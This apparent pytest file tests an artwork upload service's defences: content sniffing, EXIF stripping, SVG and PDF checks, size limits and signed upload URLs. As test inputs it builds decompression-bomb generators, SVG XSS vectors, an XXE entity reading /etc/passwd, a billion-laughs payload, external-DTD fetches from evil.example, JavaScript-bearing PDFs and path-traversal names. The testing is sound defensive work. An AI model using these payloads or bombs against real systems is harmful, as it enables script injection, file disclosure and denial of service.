"""Artwork uploads (services/packaging/uploads.py): real files made here, type from the content, images
re-encoded without their metadata, PDFs thumbnailed, SVGs refused when active or external, bombs refused
within the child's limits, content-addressed storage, and the signed upload route."""

from __future__ import annotations

import base64
import io
import random
import struct
import time
import tracemalloc
import zlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from httpx import AsyncClient
from PIL import ExifTags, Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from models import StoredFile
from services.common import settings
from services.common.errors import DomainError
from services.packaging import files, uploads
from services.packaging.errors import PackagingErrorCode
from tests.conftest import Database
from tests.factories import make_user

MIB = 1024 * 1024


@pytest.fixture(autouse=True)
def media(tmp_path: Path) -> Iterator[Path]:
    """Uploads of each test in their own media directory, with the default size limit."""
    with settings.overridden(media_dir=tmp_path / "media", upload_max_mb=settings.DEFAULT_UPLOAD_MAX_MB):
        yield tmp_path / "media"


def image_at(path: Path) -> Image.Image:
    return Image.open(io.BytesIO(path.read_bytes()))


def rgb(image: Image.Image, xy: tuple[int, int]) -> tuple[int, ...]:
    value = image.convert("RGB").getpixel(xy)
    assert isinstance(value, tuple)
    return value


def stored_files(media: Path) -> list[Path]:
    return sorted(p for p in media.rglob("*") if p.is_file())


# -- files made for the tests --------------------------------------------------------------------------------


def png_bytes(size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Nguyễn Văn A, 0912 345 678")  # a text chunk that must not survive
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_with_gps(orientation: int = 1) -> bytes:
    image = Image.new("RGB", (80, 60), (20, 120, 200))
    image.paste((250, 250, 0), (0, 0, 40, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SecretCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (10.0, 45.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (106.0, 40.0, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90, exif=exif, comment=b"shot at home")
    data = out.getvalue()
    assert b"SecretCam" in data
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    return data


def reportlab_pdf(pages: int = 2, pagesize: tuple[float, float] = A4) -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=pagesize, invariant=True)
    for number in range(1, pages + 1):
        pdf.setFillColorRGB(0.1, 0.5, 0.2)
        pdf.rect(40, 40, 200, 120, fill=1)
        pdf.drawString(60, 200, f"Bánh phồng Sơn Đốc - page {number}")
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given objects (1 0 obj is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"] * count
    return raw_pdf(objects)


def zlib_bomb(mebibytes: int) -> bytes:
    """A zlib stream of `mebibytes` MiB of spaces in about 1/1000 of that: one byte-aligned deflate block
    repeated (a full flush resets the window, so every block is the same), with the right Adler-32."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * MIB
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = first + block * (mebibytes - 1) + compressor.flush()
    adler = 1
    for _ in range(mebibytes):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def pdf_zlib_bomb(mebibytes: int) -> bytes:
    stream = zlib_bomb(mebibytes)
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A 1-bit PNG of width x height black pixels: ~110 MB of rows in a few hundred kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    compressor = zlib.compressobj(9)
    rows = (b"\x00" + b"\x00" * ((width + 7) // 8)) * 100
    idat = b"".join(compressor.compress(rows) for _ in range(height // 100)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


CLEAN_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!-- Generator: Adobe Illustrator 27.0 -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 300 200">'
    "<style>.a{fill:url(#g)} .b{font-family:'\\5FAE\\8F6F\\96C5\\9ED1'}</style>"
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>'
    '<g inkscape:label="Lớp 1 (image (2))"><rect class="a" width="300" height="200" clip-path="url(#g)"/>'
    '<use xlink:href="#g"/><image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'
    '<text x="10" y="20" class="b">Bánh phồng</text></g></svg>'
).encode()


# -- type from the content -----------------------------------------------------------------------------------


def test_sniff_reads_the_content_not_the_name() -> None:
    assert files.sniff(png_bytes()[:64]) == "png"
    assert files.sniff(jpeg_with_gps()[:64]) == "jpeg"
    assert files.sniff(reportlab_pdf(1)[:64]) == "pdf"
    assert files.sniff(CLEAN_SVG[:64]) == "svg"
    assert files.sniff(b'\xef\xbb\xbf  <svg xmlns="http://www.w3.org/2000/svg"/>') == "svg"
    assert files.sniff('<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16")) == "svg"
    for other in (
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        b"<html><body>",
        b"PK\x03\x04zip",
        b"GIF89a",
        b"\x7fELF",
        b"",
    ):
        assert files.sniff(other) is None


def test_display_name_is_text_never_a_path() -> None:
    assert uploads.display_name("../../etc/passwd") == "passwd"
    assert uploads.display_name("C:\\Users\\an\\Nhãn mặt trước.pdf") == "Nhãn mặt trước.pdf"
    assert uploads.display_name("logo\u202egnp.exe") == "logognp.exe"  # no right-to-left override
    assert uploads.display_name("a\x00b\nc.png") == "abc.png"
    assert uploads.display_name("") is None
    assert uploads.display_name(None) is None
    assert len(uploads.display_name("x" * 1000) or "") == 255


# -- images --------------------------------------------------------------------------------------------------


async def test_png_is_reencoded_and_stored_by_its_hash(db: Database, media: Path) -> None:
    user = await make_user("designer@example.vn")
    original = png_bytes()
    stored = await uploads.store_upload(original, declared_name="../logo.png", user_id=user.id)
    assert stored.media_type == "image/png"
    assert (stored.width_px, stored.height_px, stored.pages) == (64, 48, None)
    assert stored.original_name == "logo.png"
    assert stored.uploaded_by_id == user.id
    path = uploads.path_of(stored)
    assert path == media / "uploads" / stored.sha256[:2] / f"{stored.sha256}.png"
    body = path.read_bytes()
    assert len(body) == stored.size_bytes
    import hashlib

    assert hashlib.sha256(body).hexdigest() == stored.sha256
    assert b"Author" not in body
    assert "Nguyễn".encode() not in body
    reread = Image.open(io.BytesIO(body))
    assert reread.format == "PNG"
    assert reread.size == (64, 48)
    assert reread.getpixel((5, 5)) == (200, 30, 30)
    thumbnail = uploads.thumbnail_path(stored)
    assert thumbnail is not None
    assert thumbnail.name == f"{stored.thumbnail_sha256}.png"
    assert image_at(thumbnail).size == (64, 48)  # small images are not enlarged
    # Nothing but the file and its thumbnail is left, and the user's name is in no path.
    assert stored_files(media) == sorted({path, thumbnail})
    assert all("logo" not in str(p) for p in stored_files(media))


async def test_jpeg_loses_exif_gps_and_comment(db: Database) -> None:
    stored = await uploads.store_upload(jpeg_with_gps(), declared_name="photo.jpg", user_id=None)
    assert stored.media_type == "image/jpeg"
    body = uploads.path_of(stored).read_bytes()
    assert b"SecretCam" not in body
    assert b"shot at home" not in body
    assert b"Exif" not in body
    reread = Image.open(io.BytesIO(body))
    assert reread.format == "JPEG"
    assert reread.size == (80, 60)
    assert not reread.getexif()
    assert "comment" not in reread.info
    assert "exif" not in reread.info
    r, g, b = rgb(reread, (10, 10))  # the yellow corner is still yellow
    assert r > 200
    assert g > 200
    assert b < 60


async def test_jpeg_orientation_is_applied_before_exif_is_dropped(db: Database) -> None:
    stored = await uploads.store_upload(jpeg_with_gps(orientation=6), declared_name=None, user_id=None)
    reread = image_at(uploads.path_of(stored))
    assert reread.size == (60, 80)  # rotated 90 degrees, as a viewer showed it
    assert (stored.width_px, stored.height_px) == (60, 80)
    r, g, b = rgb(reread, (55, 5))  # the yellow corner is now top right
    assert r > 200
    assert g > 200
    assert b < 60


async def test_large_image_gets_a_thumbnail_of_at_most_512(db: Database) -> None:
    stored = await uploads.store_upload(png_bytes((2000, 1000)), declared_name=None, user_id=None)
    thumbnail = uploads.thumbnail_path(stored)
    assert thumbnail is not None
    assert image_at(thumbnail).size == (512, 256)


async def test_png_decompression_bomb_is_refused(db: Database, media: Path) -> None:
    bomb = png_bomb()
    assert len(bomb) < 1 * MIB
    started = time.monotonic()
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(bomb, declared_name="bomb.png", user_id=None)
    assert time.monotonic() - started < uploads.CHILD_TIMEOUT_S
    problem = refused.value.problems[0]
    assert (problem.field, problem.code) == ("file", PackagingErrorCode.OUT_OF_RANGE)
    assert "megapixels" in problem.message_en
    assert "triệu điểm ảnh" in problem.message
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


async def test_damaged_png_is_invalid(db: Database, media: Path) -> None:
    truncated = png_bytes((300, 300))[:200]
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(truncated, declared_name=None, user_id=None)
    assert refused.value.problems[0].code == PackagingErrorCode.INVALID
    assert stored_files(media) == []


# -- wrong types ---------------------------------------------------------------------------------------------


async def test_html_named_png_is_refused_and_nothing_is_stored(db: Database, media: Path) -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(html, declared_name="logo.png", user_id=None)
    assert refused.value.reason is uploads.Refusal.UNSUPPORTED_TYPE
    problem = refused.value.problems[0]
    assert (problem.field, problem.code) == ("file", PackagingErrorCode.INVALID)
    assert "PNG" in problem.message
    assert "content" in problem.message_en
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


async def test_empty_and_xml_that_is_not_svg_are_refused(db: Database, media: Path) -> None:
    with pytest.raises(uploads.UploadRefused) as empty:
        await uploads.store_upload(b"", declared_name=None, user_id=None)
    assert empty.value.problems[0].code == PackagingErrorCode.INVALID
    xhtml = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(xhtml, declared_name="a.svg", user_id=None)
    assert refused.value.problems[0].code == PackagingErrorCode.INVALID
    assert "<svg>" in refused.value.problems[0].message_en
    assert stored_files(media) == []


# -- SVG -----------------------------------------------------------------------------------------------------

ACTIVE_SVGS = {
    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
    "onclick upper case": b'<svg xmlns="http://www.w3.org/2000/svg"><rect ONCLICK="alert(1)"/></svg>',
    "external image": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/track.png"/></svg>'
    ),
    "external xlink image": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<image xlink:href="https://evil.example/a.png"/></svg>'
    ),
    "javascript link": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href=" java\tscript:alert(1)"><text>x</text></a></svg>'
    ),
    "svg data url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>'
    ),
    "css url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url( \'http://evil.example/x\' )"/></svg>'
    ),
    "css escaped url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:\\75 rl(//evil.example/x)}</style></svg>'
    ),
    "css import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://e.example/a.css";</style></svg>',
    "image-set": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="cursor:image-set(\'https://e.example/c.png\' 1x)"/>'
        b"</svg>"
    ),
    "foreignObject": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        b"<iframe src='https://evil.example'/></div></foreignObject></svg>"
    ),
    "html element": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="#x"/></svg>'
    ),
    "animation rewriting href": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="#x"><set attributeName="href" to="javascript:alert(1)"/>'
        b"<text>x</text></a></svg>"
    ),
    "stylesheet instruction": (
        b'<?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "external entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
    ),
    "billion laughs": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
            for i in range(1, 10)
        )
        + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'
    ),
    "parameter entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
}


@pytest.mark.parametrize("name", ACTIVE_SVGS)
def test_svg_checker_refuses_active_or_external_content(name: str) -> None:
    with pytest.raises(files.Refused) as refused:
        files.check_svg(ACTIVE_SVGS[name])
    assert refused.value.code == "not_allowed", refused.value.message_en
    assert refused.value.message.startswith("SVG không được chứa")


def test_svg_checker_accepts_drawings_with_local_references() -> None:
    info = files.check_svg(CLEAN_SVG)
    assert (info.width, info.height) == (300, 200)
    # A DOCTYPE without declarations is inert (nothing is fetched) and older exporters write it.
    doctype = (
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="120px" height="80"><path d="M0 0L1 1"/></svg>'
    )
    assert files.check_svg(doctype) == files.SvgInfo(120, 80)


def test_svg_checker_limits_depth_and_needs_well_formed_xml() -> None:
    deep = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 300 + b"</g>" * 300 + b"</svg>"
    with pytest.raises(files.Refused) as too_deep:
        files.check_svg(deep)
    assert too_deep.value.code == "out_of_range"
    with pytest.raises(files.Refused) as broken:
        files.check_svg(b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')
    assert broken.value.code == "invalid"


async def test_svg_is_kept_byte_for_byte(db: Database, media: Path) -> None:
    stored = await uploads.store_upload(CLEAN_SVG, declared_name="mark.svg", user_id=None)
    assert stored.media_type == "image/svg+xml"
    assert uploads.path_of(stored).read_bytes() == CLEAN_SVG
    assert stored.thumbnail_sha256 is None  # a checked SVG is its own preview
    assert (stored.width_px, stored.height_px) == (300, 200)


@pytest.mark.parametrize("name", ["script", "onload", "external image", "external entity", "billion laughs"])
async def test_active_svg_upload_is_refused_and_nothing_is_stored(
    db: Database, media: Path, name: str
) -> None:
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(ACTIVE_SVGS[name], declared_name="art.svg", user_id=None)
    problem = refused.value.problems[0]
    assert (problem.field, problem.code, refused.value.reason) == (
        "file",
        PackagingErrorCode.NOT_ALLOWED,
        uploads.Refusal.CONTENT,
    )
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


# -- PDF -----------------------------------------------------------------------------------------------------


async def test_pdf_is_kept_with_pages_and_a_thumbnail(db: Database, media: Path) -> None:
    original = reportlab_pdf(pages=2)
    stored = await uploads.store_upload(original, declared_name="hộp.pdf", user_id=None)
    assert (stored.media_type, stored.pages, stored.size_bytes) == ("application/pdf", 2, len(original))
    assert uploads.path_of(stored).read_bytes() == original
    assert uploads.path_of(stored).name == f"{stored.sha256}.pdf"
    thumbnail = uploads.thumbnail_path(stored)
    assert thumbnail is not None
    assert thumbnail.is_file()
    preview = image_at(thumbnail)
    assert preview.format == "PNG"
    assert max(preview.size) == 512
    assert preview.size[0] < preview.size[1]  # A4, portrait
    assert rgb(preview, (60, 450))[1] > 100  # the green rectangle, bottom left


@pytest.mark.parametrize(
    ("bomb", "words"),
    [
        ("pages", "10000 pages"),
        ("page size", "too large"),
        ("zlib", "memory or time"),
    ],
)
async def test_pdf_bombs_are_refused_within_limits(db: Database, media: Path, bomb: str, words: str) -> None:
    if bomb == "pages":
        data = pdf_with_pages(10_000)
    elif bomb == "page size":
        data = reportlab_pdf(pages=1, pagesize=(20_000, 20_000))
    else:
        data = pdf_zlib_bomb(2048)  # 2 GiB of content stream in 2 MB: over the child's 1 GiB
    assert len(data) < 3 * MIB
    started = time.monotonic()
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(data, declared_name="bomb.pdf", user_id=None)
    assert time.monotonic() - started < uploads.CHILD_TIMEOUT_S + 5
    problem = refused.value.problems[0]
    assert (problem.field, problem.code) == ("file", PackagingErrorCode.OUT_OF_RANGE)
    assert words in problem.message_en
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


async def test_a_check_over_its_time_limit_is_a_typed_refusal(
    db: Database, media: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(uploads, "CHILD_TIMEOUT_S", 0.01)  # the child cannot even start in that time
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(reportlab_pdf(1), declared_name=None, user_id=None)
    assert refused.value.problems[0].code == PackagingErrorCode.OUT_OF_RANGE
    assert stored_files(media) == []


async def test_pdf_with_javascript_is_refused(db: Database) -> None:
    js = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            b"<< /Names [(a) 5 0 R] >>",
            b"<< /S /JavaScript /JS (app.alert(1);) >>",
        ]
    )
    with pytest.raises(uploads.UploadRefused) as refused:
        await uploads.store_upload(js, declared_name=None, user_id=None)
    assert refused.value.problems[0].code == PackagingErrorCode.NOT_ALLOWED


# -- size ----------------------------------------------------------------------------------------------------


class Stream:
    """An upload of `total` bytes that starts like a PNG, made 1 MiB at a time; counts what was read."""

    def __init__(self, total: int) -> None:
        self.total = total
        self.read = 0
        self.chunk = b"\x89PNG\r\n\x1a\n" + bytes(MIB - 8)

    async def __aiter__(self) -> AsyncIterator[bytes]:
        while self.read < self.total:
            self.read += len(self.chunk)
            yield self.chunk


async def test_a_200_mb_stream_is_refused_without_reading_it(db: Database, media: Path) -> None:
    stream = Stream(200 * MIB)
    tracemalloc.start()
    try:
        with pytest.raises(uploads.UploadRefused) as refused:
            await uploads.store_upload(stream, declared_name="huge.png", user_id=None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.reason is uploads.Refusal.TOO_LARGE
    assert refused.value.problems[0].code == PackagingErrorCode.OUT_OF_RANGE
    assert "25 MB" in refused.value.problems[0].message_en
    assert stream.read <= 26 * MIB  # stopped at the first chunk past 25 MB
    assert peak < 8 * MIB  # spooled to disk, never held
    assert stored_files(media) == []


async def test_the_limit_comes_from_the_environment(db: Database, media: Path) -> None:
    from_env = settings.load_settings({"OCOP_UPLOAD_MAX_MB": "0.01"})  # about 10 kB
    with settings.overridden(upload_max_mb=from_env.upload_max_mb):
        noise = io.BytesIO()
        Image.frombytes("L", (200, 200), random.Random(1).randbytes(40_000)).save(noise, "PNG")
        assert len(noise.getvalue()) > 11_000
        with pytest.raises(uploads.UploadRefused) as refused:
            await uploads.store_upload(noise.getvalue(), declared_name=None, user_id=None)
        assert refused.value.reason is uploads.Refusal.TOO_LARGE
        assert "0.01 MB" in refused.value.problems[0].message_en
        assert (await uploads.store_upload(png_bytes(), declared_name=None, user_id=None)).size_bytes < 10_000


# -- content addressing --------------------------------------------------------------------------------------


async def test_identical_bytes_give_one_row(db: Database, media: Path) -> None:
    first_user = await make_user("a@example.vn")
    second_user = await make_user("b@example.vn")
    for data in (png_bytes(), reportlab_pdf(1), CLEAN_SVG, jpeg_with_gps()):
        first = await uploads.store_upload(data, declared_name="one", user_id=first_user.id)
        again = await uploads.store_upload(data, declared_name="two", user_id=second_user.id)
        assert again.id == first.id
        assert (again.original_name, again.uploaded_by_id) == ("one", first_user.id)
    assert await StoredFile.all().count() == 4
    # A stored PNG uploaded again (downloaded and put back) is the same file too: re-encoding is stable.
    png = await StoredFile.get(media_type="image/png")
    assert (
        await uploads.store_upload(uploads.path_of(png).read_bytes(), declared_name=None, user_id=None)
    ).id == (png.id)
    assert await StoredFile.all().count() == 4


# -- signed URLs and the route -------------------------------------------------------------------------------


def token_of(url: str) -> str:
    return url.split("token=", 1)[1]


def test_upload_tokens_bind_the_user_and_expire() -> None:
    now = 1_800_000_000.0
    url = uploads.upload_url("https://ocop.test/", 42, now=now)
    assert url.startswith("https://ocop.test/uploads?token=42.")
    token = token_of(url)
    assert uploads.verify_upload_token(token, now=now) == 42
    assert uploads.verify_upload_token(token, now=now + 14 * 60) == 42
    assert uploads.verify_upload_token(token, now=now + 16 * 60) is None  # 15 minutes
    user, expires, signature = token.split(".")
    assert uploads.verify_upload_token(f"43.{expires}.{signature}", now=now) is None
    assert uploads.verify_upload_token(f"{user}.{int(expires) + 3600}.{signature}", now=now) is None
    assert uploads.verify_upload_token(f"{user}.{expires}.{'0' * 32}", now=now) is None
    for malformed in ("", "42", "a.b.c", "42..", f"-1.{expires}.{signature}"):
        assert uploads.verify_upload_token(malformed, now=now) is None


def upload_path(user_id: int, *, now: float | None = None) -> str:
    return uploads.upload_url("https://ocop.test", user_id, now=now).removeprefix("https://ocop.test")


async def test_route_stores_and_answers_the_relay_id(client: AsyncClient, media: Path) -> None:
    user = await make_user("designer@example.vn")
    data = png_bytes()
    response = await client.put(
        upload_path(user.id) + "&name=..%2F..%2Fm%E1%BA%B7t%20tr%C6%B0%E1%BB%9Bc.png", content=data
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert set(body) == {"fileId", "sha256", "mediaType", "size"}
    type_name, _, raw_id = base64.b64decode(body["fileId"]).decode().partition(":")
    stored = await StoredFile.get(id=int(raw_id))
    assert type_name == "StoredFile"
    assert (body["sha256"], body["mediaType"], body["size"]) == (
        stored.sha256,
        "image/png",
        stored.size_bytes,
    )
    assert stored.uploaded_by_id == user.id
    assert stored.original_name == "mặt trước.png"
    assert uploads.path_of(stored).is_file()
    # POST with the raw body works the same; the same bytes give the same file.
    again = await client.post(upload_path(user.id), content=data)
    assert again.status_code == 200
    assert again.json()["fileId"] == body["fileId"]


async def test_route_refuses_bad_tokens_with_403(client: AsyncClient, media: Path) -> None:
    user = await make_user("designer@example.vn")
    expired = upload_path(user.id, now=time.time() - 3600)
    tampered = upload_path(user.id).replace(f"token={user.id}.", f"token={user.id + 1}.")
    for path in (expired, tampered, "/uploads", "/uploads?token=nonsense"):
        response = await client.put(path, content=png_bytes())
        assert response.status_code == 403, path
        assert response.json()["errors"][0]["code"] == "link_expired"
    user.is_active = False
    await user.save()
    assert (await client.put(upload_path(user.id), content=png_bytes())).status_code == 403
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


async def test_route_answers_415_and_400_with_typed_errors(client: AsyncClient, media: Path) -> None:
    user = await make_user("designer@example.vn")
    html = await client.put(upload_path(user.id) + "&name=logo.png", content=b"<html><body>hi</body></html>")
    assert html.status_code == 415
    [error] = html.json()["errors"]
    assert (error["field"], error["code"]) == ("file", "invalid")
    assert error["message"].startswith("Chỉ nhận tệp PDF, PNG, JPEG hoặc SVG")  # Vietnamese by default
    script = await client.put(
        upload_path(user.id), content=ACTIVE_SVGS["script"], headers={"accept-language": "en"}
    )
    assert script.status_code == 400
    [error] = script.json()["errors"]
    assert (error["field"], error["code"]) == ("file", "not_allowed")
    assert error["message"].isascii()  # English on request
    assert "script" in error["message"].lower()
    assert stored_files(media) == []


async def test_route_refuses_200_mb_with_413_without_reading_it(client: AsyncClient, media: Path) -> None:
    user = await make_user("designer@example.vn")
    stream = Stream(200 * MIB)
    response = await client.put(upload_path(user.id), content=stream)  # chunked: no Content-Length
    assert response.status_code == 413
    assert response.json()["errors"] == [
        {"field": "file", "code": "out_of_range", "message": "Tệp quá lớn: tối đa 25 MB."}
    ]
    assert stream.read <= 26 * MIB
    # A Content-Length over the limit is refused before a byte is read.
    declared = Stream(200 * MIB)
    response = await client.put(
        upload_path(user.id), content=declared, headers={"content-length": str(200 * MIB)}
    )
    assert response.status_code == 413
    assert declared.read == 0
    assert stored_files(media) == []
    assert await StoredFile.all().count() == 0


def test_domain_error_shape() -> None:
    refused = uploads.too_large()
    assert isinstance(refused, DomainError)
    assert refused.problems[0].field == "file"
    assert refused.reason is uploads.Refusal.TOO_LARGE
